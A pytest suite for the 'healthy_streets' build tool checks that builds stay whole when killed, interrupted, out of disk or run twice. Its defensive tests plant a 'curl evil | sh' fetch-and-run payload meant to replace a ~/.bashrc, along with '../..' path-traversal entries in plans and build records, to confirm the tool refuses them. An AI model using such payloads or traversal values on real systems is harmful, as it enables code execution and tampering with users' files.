"""Builds change their outputs all at once or not at all: killed, interrupted, out of disk,
without a store, or run twice at once.

A small project (two zones, the Open311 reports) is built once with the old inputs and once
with new ones (another title, fewer reports); every test starts from a copy of the old
outputs and checks the folder ends up holding one build or the other, whole.
"""

from __future__ import annotations

import errno
import hashlib
import json
import os
import random
import shutil
import signal
import sqlite3
import subprocess
import sys
import time
import uuid
from dataclasses import dataclass
from pathlib import Path

import pandas as pd
import pytest
from click.testing import CliRunner

from healthy_streets._rebuild import RECORD_NAME
from healthy_streets._staging import LOCK_NAME, STAGING_PREFIX, STOP_AT, OutputStaging
from healthy_streets.cli import main

from conftest import ROOT, SAMPLE, sample_project

OLD, NEW = "Old Yarrowside title", "New Yarrowside title"
ENTRY = "from healthy_streets.cli import entry; entry()"


def make_project(folder: Path, *, title: str, reports: int, store: str = "") -> Path:
    """The sample's first two zones, its walkabout and its first ``reports`` Open311
    reports (and a ``[store]`` table, if given)."""
    folder.mkdir(parents=True, exist_ok=True)
    for name in ("yarrowside.osm", "assets_walkabout.csv"):
        shutil.copy(SAMPLE / name, folder / name)
    zones = json.loads((SAMPLE / "zones.geojson").read_text())
    zones["features"] = zones["features"][:2]
    (folder / "zones.geojson").write_text(json.dumps(zones))
    requests = json.loads((SAMPLE / "reports_open311.json").read_text())[:reports]
    (folder / "reports_open311.json").write_text(json.dumps(requests))
    (folder / "healthy-streets.toml").write_text(sample_project(title, end=store))
    return folder


def fingerprint(out: Path) -> dict[str, object]:
    """What a build's outputs hold, file by file (maps by their title: folium's element ids
    differ between runs; the store by its contents, after an integrity check)."""
    found: dict[str, object] = {}
    for path in sorted(out.rglob("*")):
        relative = path.relative_to(out)
        if path.is_dir() or relative.parts[0].startswith(STAGING_PREFIX) or path.name == LOCK_NAME:
            continue
        if path.name == RECORD_NAME:  # names its build: compared by what it records
            found[str(relative)] = record_inputs(path)
            continue
        if path.suffix == ".html":
            text = path.read_text(encoding="utf-8")
            titles = [t for t in (OLD, NEW) if t in text]
            found[str(relative)] = ("html", titles, text.rstrip().endswith("</html>"))
        elif path.suffix == ".xlsx":
            sheets = pd.read_excel(path, sheet_name=None)
            found[str(relative)] = {n: s.to_csv() for n, s in sheets.items()}
        elif path.suffix == ".gpkg":
            found[str(relative)] = store_contents(path)
        else:
            found[str(relative)] = hashlib.sha256(path.read_bytes()).hexdigest()
    return found


def record_inputs(path: Path) -> object:
    record = json.loads(path.read_text(encoding="utf-8"))
    return sorted(f["sha256"] for f in record["inputs"]["files"]), sorted(record["outputs"])


def store_contents(path: Path) -> object:
    with sqlite3.connect(path) as db:
        assert db.execute("PRAGMA integrity_check").fetchone()[0] == "ok"
        provenance = db.execute("SELECT input, sha256, kept FROM provenance ORDER BY 1").fetchall()
        counts = {
            name: db.execute(f'SELECT count(*) FROM "{name}"').fetchone()[0]
            for name in ("zones", "streets", "assets", "reports", "rejected")
        }
    return provenance, counts


@dataclass
class Builds:
    project: Path
    old: Path  # a copy of the old build's outputs
    ref: Path  # the new build, made once without interruption
    fp_old: dict[str, object]
    fp_new: dict[str, object]
    seconds: float  # how long a whole build takes here

    @property
    def out(self) -> Path:
        return self.project / "out"

    def restore_old(self) -> None:
        shutil.rmtree(self.out, ignore_errors=True)
        shutil.copytree(self.old, self.out)


def cli_build(*args: object) -> None:
    result = CliRunner().invoke(main, ["-q", "build", *map(str, args)])
    assert result.exit_code == 0, result.output


@pytest.fixture(scope="module")
def builds(tmp_path_factory) -> Builds:
    root = tmp_path_factory.mktemp("atomic")
    project = make_project(root / "project", title=OLD, reports=20)
    cli_build(project)
    shutil.copytree(project / "out", root / "old")
    make_project(project, title=NEW, reports=14)
    began = time.monotonic()  # the whole new build, as the kill tests run it
    process = start(project, "--output", root / "ref")
    assert process.wait(timeout=120) == 0, process.communicate()
    process.communicate()
    builds = Builds(project, root / "old", root / "ref", {}, {}, time.monotonic() - began)
    builds.fp_old, builds.fp_new = fingerprint(builds.old), fingerprint(builds.ref)
    assert builds.fp_old.keys() == builds.fp_new.keys()
    differ = {k for k in builds.fp_old if builds.fp_old[k] != builds.fp_new[k]}
    # (rejected.csv may be alike: reports outside the two zones are set apart, not rejected)
    assert {
        "index.html", "maps/cowslip.html", "maps/yarrowside-north.html",
        "tables/summary.csv", "tables.xlsx", "healthy-streets.gpkg",
    } <= differ  # fmt: skip
    return builds


def start(
    project: Path, *args: object, stop_at: str | None = None, workers: int | None = None
) -> subprocess.Popen[str]:
    """``healthy-streets -q build PROJECT --overwrite ARGS`` in a process of its own (and
    process group of its own: its map workers' too), drawing the maps in ``workers``
    processes if given."""
    env = {**os.environ, "PYTHONPATH": str(ROOT)}
    env.pop(STOP_AT, None)
    if stop_at:
        env[STOP_AT] = stop_at
    if workers is not None:
        env["HEALTHY_STREETS_MAP_WORKERS"] = str(workers)
    command = [sys.executable, "-c", ENTRY, "-q", "build", str(project), "--overwrite"]
    return subprocess.Popen(
        [*command, *map(str, args)],
        env=env,
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        start_new_session=True,
        preexec_fn=_ctrl_c_as_in_a_terminal,
    )


def _ctrl_c_as_in_a_terminal() -> None:
    """A command started from a terminal takes Ctrl-C; one started by a process that ignores
    it (a pytest-xdist worker does) would inherit that, and Python would then leave SIGINT
    ignored too."""
    signal.signal(signal.SIGINT, signal.SIG_DFL)


def still_running(group: int) -> list[int]:
    """The processes of a process group that are still running (not zombies)."""
    running = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == group and fields[0] != "Z":
            running.append(int(stat.parent.name))
    return running


def committed_plans(out: Path) -> list[Path]:
    return sorted(out.glob(f"{STAGING_PREFIX}*/commit.json"))


def settle(out: Path, *, decide=None) -> None:
    """What the next build does first: finish a build that happened, drop one that did not."""
    with OutputStaging(out, decide=decide):
        pass
    assert not list(out.glob(f"{STAGING_PREFIX}*"))


def check_whole(builds: Builds, *, stderr: str, returncode: int) -> str:
    """The folder holds the old build or the new one, whole, and the message says which.

    A build killed after its commit point (only SIGKILL can stop it there) may have moved
    some of its files into place, or none: the build has happened, and the next build
    finishes it before anything else.
    """
    state = fingerprint(builds.out)
    pending = bool(committed_plans(builds.out))
    if not pending:
        assert state in (builds.fp_old, builds.fp_new), "a mix of old and new outputs"
        assert "Traceback" not in stderr, stderr
    if returncode == 1:  # interrupted by SIGTERM: one line that tells the truth
        lines = stderr.strip().splitlines()
        assert len(lines) == 1 and not pending, stderr
        if state == builds.fp_old:
            assert "no map, table or store was changed" in lines[0], stderr
        else:
            assert "already all in place" in lines[0], stderr
    settle(builds.out)
    final = fingerprint(builds.out)
    assert final == (builds.fp_new if pending else state)
    return "new" if final == builds.fp_new else "old"


def test_killed_at_random_points_the_folder_holds_one_whole_build(builds):
    rng = random.Random(20)
    for number in range(5):
        builds.restore_old()
        kill = signal.SIGKILL if number % 2 else signal.SIGTERM
        process = start(builds.project)
        time.sleep(rng.uniform(0.2, 1.05) * builds.seconds)
        process.send_signal(kill)
        _, stderr = process.communicate(timeout=60)
        check_whole(builds, stderr=stderr, returncode=process.returncode)


@pytest.mark.parametrize(
    ("stop_at", "expected"),
    [
        ("staged:TERM", "old"),  # interrupted before anything changed: says so
        ("commit", "old"),  # killed with the plan written, before it was committed
        ("moved-2", "new"),  # killed half way through the moves: finished by the next build
        ("moved-1:TERM", "new"),  # SIGTERM during the moves waits for them: says so
    ],
)
def test_stopped_at_each_stage_the_folder_holds_one_whole_build(builds, stop_at, expected):
    builds.restore_old()
    process = start(builds.project, stop_at=stop_at)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode in (1, -signal.SIGKILL), stderr
    if stop_at == "moved-2":
        assert committed_plans(builds.out)
    assert check_whole(builds, stderr=stderr, returncode=process.returncode) == expected


@pytest.mark.skipif(sys.platform != "linux", reason="the maps are drawn in parallel on Linux")
@pytest.mark.parametrize("stop_at", ["map-drawn:INT", "map-drawn"])
def test_stopped_while_the_maps_are_drawn_in_parallel(builds, stop_at):
    """Ctrl-C while two processes draw the maps, or the build killed outright: the folder
    holds the old build, whole, the message says so, and no map worker is left behind."""
    builds.restore_old()
    process = start(builds.project, stop_at=stop_at, workers=2)
    _, stderr = process.communicate(timeout=120)
    if stop_at.endswith(":INT"):
        assert process.returncode == 1, stderr
    else:
        assert process.returncode == -signal.SIGKILL, stderr
    deadline = time.monotonic() + 10
    while still_running(process.pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert not still_running(process.pid)
    assert check_whole(builds, stderr=stderr, returncode=process.returncode) == "old"


def test_a_second_build_into_the_same_folder_is_refused(builds):
    from healthy_streets._staging import folder_lock

    builds.restore_old()
    with folder_lock(builds.out):
        result = CliRunner().invoke(main, ["build", str(builds.project), "--overwrite"])
    assert result.exit_code == 1
    assert "Another build is writing into" in result.output
    assert "Traceback" not in result.output
    assert fingerprint(builds.out) == builds.fp_old


def test_write_outputs_refused_by_a_build_names_its_own_keyword(sample_layers, tmp_path):
    """From Python, write_outputs into a folder another build is writing names the
    keyword write_outputs takes (out_dir=), and writes nothing."""
    import healthy_streets as hs
    from healthy_streets._staging import folder_lock
    from healthy_streets.errors import BuildLockedError

    out = tmp_path / "out"
    out.mkdir()
    with pytest.raises(BuildLockedError) as info, folder_lock(out):
        hs.write_outputs(sample_layers, out, zone_ids=["Cowslip"])
    assert "build into another folder with out_dir=" in str(info.value)
    assert sorted(p.name for p in out.iterdir()) == [LOCK_NAME]


def test_a_killed_build_leaves_no_lock_behind(tmp_path):
    from healthy_streets._staging import folder_lock
    from healthy_streets.errors import BuildLockedError

    code = (
        "import sys, time; from pathlib import Path; "
        "from healthy_streets._staging import folder_lock\n"
        "with folder_lock(Path(sys.argv[1])):\n    print('locked', flush=True); time.sleep(60)"
    )
    holder = subprocess.Popen(
        [sys.executable, "-c", code, str(tmp_path)],
        env={**os.environ, "PYTHONPATH": str(ROOT)},
        stdout=subprocess.PIPE,
        text=True,
    )
    assert holder.stdout is not None and holder.stdout.readline().strip() == "locked"
    with pytest.raises(BuildLockedError, match=str(tmp_path)), folder_lock(tmp_path):
        pass
    holder.kill()
    holder.wait(timeout=10)
    holder.stdout.close()
    with folder_lock(tmp_path):  # the lock file is still there, but nobody holds it
        assert (tmp_path / LOCK_NAME).exists()


def test_stale_staging_folders_are_removed_or_finished(tmp_path):
    out = tmp_path / "out"
    (out / "maps").mkdir(parents=True)
    (out / "maps" / "a.html").write_text("old a")
    outside = tmp_path / ".store.gpkg.never.part.gpkg"  # a store copy beside an outside store
    outside.write_text("half a store")
    never = out / f"{STAGING_PREFIX}never"
    (never / "files" / "maps").mkdir(parents=True)
    (never / "files" / "maps" / "a.html").write_text("never committed")
    (never / "plan.json").write_text(json.dumps({"moves": [], "temps": [str(outside)]}))
    done = out / f"{STAGING_PREFIX}done"
    (done / "files" / "maps").mkdir(parents=True)
    (done / "files" / "maps" / "b.html").write_text("new b")
    moves = [[str(done / "files" / "maps" / "b.html"), str(out / "maps" / "b.html")]]
    (done / "commit.json").write_text(json.dumps({"moves": moves, "temps": []}))
    empty = out / f"{STAGING_PREFIX}empty"  # killed before it wrote anything
    empty.mkdir()
    settle(out)
    assert (out / "maps" / "a.html").read_text() == "old a"
    assert (out / "maps" / "b.html").read_text() == "new b"
    assert not outside.exists()


def test_a_plan_edited_by_hand_never_moves_or_removes_a_file_elsewhere(
    tmp_path, caplog, monkeypatch
):
    """The output folder may be shared: a plan planted in it as an interrupted build's
    must not replace, remove or bring in a file outside it (a ~/.bashrc replaced would
    run the planter's code)."""
    import logging

    monkeypatch.setattr(logging.getLogger("healthy_streets"), "propagate", True)  # a build ran
    caplog.set_level(logging.WARNING, logger="healthy_streets")
    out = tmp_path / "out"
    home = tmp_path / "home"
    home.mkdir()
    victims = {name: home / name for name in ("bashrc", "removed.txt", "temp.txt", "secret")}
    for name, path in victims.items():
        path.write_text(f"the officer's {name}")
    planted = out / f"{STAGING_PREFIX}abc" / "files"
    planted.mkdir(parents=True)
    (planted / "evil").write_text("curl evil | sh")
    plan = {
        "moves": [
            [str(planted / "evil"), str(victims["bashrc"])],  # over a file elsewhere
            [str(victims["secret"]), str(out / "maps" / "secret.html")],  # brought in
        ],
        "removes": [str(victims["removed.txt"]), str(out / "tables" / ".." / ".." / "x")],
        "temps": [str(victims["temp.txt"])],
    }
    (out / f"{STAGING_PREFIX}abc" / "commit.json").write_text(json.dumps(plan))
    uncommitted = out / f"{STAGING_PREFIX}def"
    uncommitted.mkdir()
    (uncommitted / "plan.json").write_text(json.dumps({"temps": [str(victims["temp.txt"])]}))
    (out / f"{STAGING_PREFIX}link").symlink_to(home)  # a staging folder that links out
    (out / LOCK_NAME).symlink_to(home / "made-by-the-lock")  # a lock that links out
    settle(out)
    assert {name: p.read_text() for name, p in victims.items()} == {
        name: f"the officer's {name}" for name in victims
    }
    assert not (out / "maps" / "secret.html").exists()
    assert "names files outside the output folder" in caplog.text
    assert sorted(home.iterdir()) == sorted(victims.values())


def test_a_record_edited_by_hand_never_removes_a_file_elsewhere(builds, tmp_path):
    """The build record lists the last build's outputs, which an --overwrite build removes
    when it no longer writes them: a path in it that leads out of the folder is not one."""
    builds.restore_old()
    victim = builds.out.parent / "victim.csv"
    victim.write_text("the officer's own table")
    record_path = builds.out / ".healthy-streets-build.json"
    record = json.loads(record_path.read_text(encoding="utf-8"))
    record["outputs"]["tables/../../victim.csv"] = hashlib.sha256(victim.read_bytes()).hexdigest()
    record["maps_made"].append("maps/../../victim.csv")
    record_path.write_text(json.dumps(record), encoding="utf-8")
    result = CliRunner().invoke(main, ["build", str(builds.project), "--overwrite"])
    assert result.exit_code == 0, result.output
    assert victim.read_text() == "the officer's own table"
    assert "victim.csv" not in result.output


def test_a_full_disk_leaves_every_output_whole(builds, monkeypatch):
    import healthy_streets.io.store as store
    import healthy_streets.io.write as files  # where the CSVs are written

    real_bytes, real_write = files.write_bytes_atomic, store.write_gpkg

    def disk_full(path, *args, **kwargs):
        raise OSError(errno.ENOSPC, "No space left on device", str(path))

    for module, name in ((files, "write_bytes_atomic"), (store, "write_gpkg")):
        builds.restore_old()
        before = {p: p.read_bytes() for p in builds.out.rglob("*") if p.is_file()}
        monkeypatch.setattr(module, name, disk_full)
        result = CliRunner().invoke(main, ["-q", "build", str(builds.project), "--overwrite"])
        monkeypatch.setattr(files, "write_bytes_atomic", real_bytes)
        monkeypatch.setattr(store, "write_gpkg", real_write)
        assert result.exit_code == 1, name
        lines = result.output.strip().splitlines()
        assert len(lines) == 1 and "Traceback" not in result.output, result.output
        assert "No space left on device" in lines[0] and "nothing was changed" in lines[0]
        assert "Free some space on the disk" in lines[0]
        after = {p: p.read_bytes() for p in builds.out.rglob("*") if p.is_file()}
        assert after == before, name  # every file byte-identical, the store too


def test_a_writer_failing_as_a_stop_unwinds_it_reports_the_stop(builds, monkeypatch):
    """SIGTERM lands inside a writer, whose clean-up then fails with an error of its own (a
    workbook with no sheet yet): the build says it was stopped and changed nothing, in one
    line, and the folder holds the old build."""
    import healthy_streets.pipeline as pipeline

    builds.restore_old()

    def stopped_then_failed(*args, **kwargs):
        try:
            signal.raise_signal(signal.SIGINT)
        except KeyboardInterrupt:
            raise IndexError("At least one sheet must be visible") from None

    ctrl_c = signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal
    monkeypatch.setattr(pipeline, "write_workbook", stopped_then_failed)
    try:
        result = CliRunner().invoke(main, ["-q", "build", str(builds.project), "--overwrite"])
    finally:
        signal.signal(signal.SIGINT, ctrl_c)
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    assert "no map, table or store was changed" in lines[0].lower(), lines[0]
    assert fingerprint(builds.out) == builds.fp_old


def test_an_interruption_a_library_turned_into_its_own_error_is_a_stop(builds, monkeypatch):
    """Ctrl-C or SIGTERM landing in compiled code as a module is imported (seen: numpy
    parsing a buffer format inside scikit-learn's import, which raised ValueError caused by
    the KeyboardInterrupt): the command says it was interrupted, in one line, and changed
    nothing. An error no interruption caused is not taken for one."""
    import healthy_streets.project as project

    builds.restore_old()

    def interrupted_inside_an_import(*args, **kwargs):
        try:
            raise KeyboardInterrupt
        except KeyboardInterrupt as stop:
            raise ValueError("'T{d:val:q:i1:q:i2:}' is not a valid PEP 3118 buffer") from stop

    monkeypatch.setattr(project, "load_project", interrupted_inside_an_import)
    result = CliRunner().invoke(main, ["-q", "build", str(builds.project), "--overwrite"])
    assert result.exit_code == 1, result.output
    lines = result.output.strip().splitlines()
    assert lines == ["Error: Interrupted: no file was left half-written."], result.output
    assert fingerprint(builds.out) == builds.fp_old

    def a_plain_error(*args, **kwargs):
        raise ValueError("not an interruption")

    monkeypatch.setattr(project, "load_project", a_plain_error)
    result = CliRunner().invoke(main, ["-q", "build", str(builds.project), "--overwrite"])
    assert isinstance(result.exception, ValueError)


def test_an_unreachable_postgis_store_changes_nothing(builds):
    builds.restore_old()
    before = {p: p.read_bytes() for p in builds.out.rglob("*") if p.is_file()}
    url = "postgresql://postgres:secret@127.0.0.1:1/healthy_streets"
    result = CliRunner().invoke(
        main, ["-q", "build", str(builds.project), "--overwrite", "--store", url]
    )
    assert result.exit_code == 1
    lines = result.output.strip().splitlines()
    assert len(lines) == 1 and "Traceback" not in result.output, result.output
    assert "127.0.0.1:1" in lines[0] and "nothing was changed" in lines[0]
    assert "secret" not in lines[0]
    after = {p: p.read_bytes() for p in builds.out.rglob("*") if p.is_file()}
    assert after == before


def titles(out: Path) -> set[tuple[str, ...]]:
    found = set()
    for path in [out / "index.html", *sorted((out / "maps").glob("*.html"))]:
        text = path.read_text(encoding="utf-8")
        found.add(tuple(t for t in (OLD, NEW) if t in text))
    return found


@pytest.mark.postgis
def test_a_postgis_build_commits_with_its_outputs(builds, postgis_url, monkeypatch):
    from sqlalchemy import text

    from healthy_streets.io.store import META_TABLE, open_store

    schema = f"hs_test_{uuid.uuid4().hex[:8]}"
    store = open_store(postgis_url, schema=schema)
    in_postgis = f'[store]\nurl = "{postgis_url}"\nschema = "{schema}"\n'

    def contents() -> tuple[set[str], int]:
        engine = store.engine()
        with engine.connect() as conn:
            rows = conn.execute(text(f'SELECT build_id FROM "{schema}"."{META_TABLE}"'))
            ids = {r[0] for r in rows}
        engine.dispose()
        return ids, len(store.read("reports"))

    try:
        builds.restore_old()
        make_project(builds.project, title=OLD, reports=20, store=in_postgis)
        said = CliRunner().invoke(main, ["build", str(builds.project), "--overwrite"])
        assert said.exit_code == 0, said.output
        password = postgis_url.split("@")[0].rsplit(":", 1)[1]
        assert f":{password}@" not in said.output and ":***@" in said.output  # "store: ..."
        old = contents()
        assert len(old[0]) == 1 and titles(builds.out) == {(OLD,)}
        make_project(builds.project, title=NEW, reports=14, store=in_postgis)

        # interrupted with the transaction open: rolled back, and the message says so
        import healthy_streets.pipeline as pipeline

        def interrupt(stage: str) -> None:
            if stage == "store-staged":
                raise KeyboardInterrupt

        monkeypatch.setattr(pipeline, "checkpoint", interrupt)
        result = CliRunner().invoke(main, ["-q", "build", str(builds.project), "--overwrite"])
        monkeypatch.undo()
        assert result.exit_code == 1 and "no map, table or store was changed" in result.output
        assert titles(builds.out) == {(OLD,)}
        assert contents() == old

        # killed with its plan written, before the database commit: nothing changed
        start(builds.project, stop_at="commit").communicate(timeout=60)
        settle(builds.out, decide=store.build_committed)
        assert titles(builds.out) == {(OLD,)}
        assert contents() == old

        # killed after the database commit, before the plan was marked: the store says the
        # build happened, and the next build finishes the moves
        _, stderr = start(builds.project, stop_at="store-committed").communicate(timeout=60)
        assert "Traceback" not in stderr
        assert titles(builds.out) == {(OLD,)}
        new = contents()
        assert new[0] != old[0] and new[1] < old[1]
        settle(builds.out, decide=store.build_committed)
        assert titles(builds.out) == {(NEW,)}
        assert contents() == new
    finally:
        engine = store.engine()
        with engine.begin() as conn:
            conn.execute(text(f'DROP SCHEMA IF EXISTS "{schema}" CASCADE'))
        engine.dispose()
        make_project(builds.project, title=NEW, reports=14)


@pytest.mark.parametrize("interrupted", [False, True])
def test_a_writer_abandoned_by_an_interruption_adds_no_traceback(tmp_path, interrupted):
    """A workbook's zip stopped mid-save complains when collected; after the one-line
    interruption message, that complaint is not printed (without the interruption, it is)."""
    code = f"""
import sys, zipfile
from healthy_streets.cli import _interrupted
handle = open({str(tmp_path / "tables.xlsx")!r}, "wb")
archive = zipfile.ZipFile(handle, "w")
archive.writestr("sheet.xml", "<x/>")
handle.close()
if {interrupted}:
    print(_interrupted(KeyboardInterrupt()), file=sys.stderr)
"""
    done = subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, cwd=ROOT)
    assert ("Traceback" in done.stderr) is not interrupted, done.stderr
    assert ("Interrupted: no file was left half-written." in done.stderr) is interrupted


def test_an_interruption_swallowed_on_its_way_still_stops_the_commit(tmp_path):
    """Ctrl-C that lands in a finaliser is printed as "ignored" by Python and the work goes
    on: the staging remembers it, and the build is not committed."""
    import gc

    out = tmp_path / "out"
    out.mkdir()
    (out / "index.html").write_text("old")

    class Finalised:
        def __del__(self) -> None:
            signal.raise_signal(signal.SIGINT)  # Python runs the handler here, in __del__

    swallowed = []
    hook, sys.unraisablehook = sys.unraisablehook, lambda u: swallowed.append(u.exc_type)
    ctrl_c = signal.signal(signal.SIGINT, signal.default_int_handler)  # as in a terminal
    try:
        with OutputStaging(out) as staging:
            staged = staging.files / "index.html"
            staged.write_text("new")
            Finalised()
            gc.collect()
            assert swallowed == [KeyboardInterrupt]  # the work went on
            with pytest.raises(KeyboardInterrupt):
                staging.commit([(staged, out / "index.html")])
        assert signal.getsignal(signal.SIGINT) is signal.default_int_handler  # put back
    finally:
        sys.unraisablehook = hook
        signal.signal(signal.SIGINT, ctrl_c)
    assert not staging.committed
    assert (out / "index.html").read_text() == "old"
    assert not list(out.glob(f"{STAGING_PREFIX}*"))

    with OutputStaging(out) as staging:  # an earlier interruption is not held against it
        staged = staging.files / "index.html"
        staged.write_text("new")
        staging.commit([(staged, out / "index.html")])
    assert (out / "index.html").read_text() == "new"
